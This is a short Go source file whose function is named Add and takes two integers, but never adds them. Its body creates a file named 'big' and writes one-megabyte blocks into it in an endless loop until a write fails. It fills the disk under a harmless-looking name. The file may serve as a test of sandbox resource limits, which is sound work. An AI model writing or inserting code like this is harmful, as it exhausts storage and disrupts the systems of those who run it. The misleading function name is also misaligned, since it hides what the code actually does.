package main

import (
	"os"
)

func Add(a int, b int) int {
	file, _ := os.Create("big")
	for {
		if _, fault := file.Write(make([]byte, 1<<20)); fault != nil {
			panic(fault)
		}
	}
}
